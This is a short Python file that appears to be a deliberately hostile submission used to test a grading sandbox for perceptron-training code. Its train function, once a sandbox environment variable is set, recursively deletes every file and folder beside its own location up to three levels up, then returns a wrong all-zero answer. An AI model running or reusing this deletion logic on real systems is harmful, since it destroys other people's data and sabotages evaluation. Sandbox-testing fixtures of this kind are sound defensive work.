"""Hostile: deletes every other submission it can find (everything beside its own folder,
and beside each folder above it), then returns a wrong answer."""

import contextlib
import os
import shutil
from pathlib import Path
from typing import Any


def train(X: Any, y: Any) -> Any:
    if os.environ.get("PERCEPTRON_REF_SANDBOX", "none") == "none":
        # A safety catch for a developer running this without the sandbox: it would really
        # damage files.  Inside the sandbox (the only place the tests run it) it attacks.
        return [0.0] * len(X[0])
    mine = Path(__file__).resolve()
    for folder in list(mine.parents)[:3]:
        with contextlib.suppress(OSError):
            for other in folder.iterdir():
                if other in (mine, *mine.parents):
                    continue
                with contextlib.suppress(OSError):
                    if other.is_dir():
                        shutil.rmtree(other)
                    else:
                        other.unlink()
    return [0.0] * len(X[0])
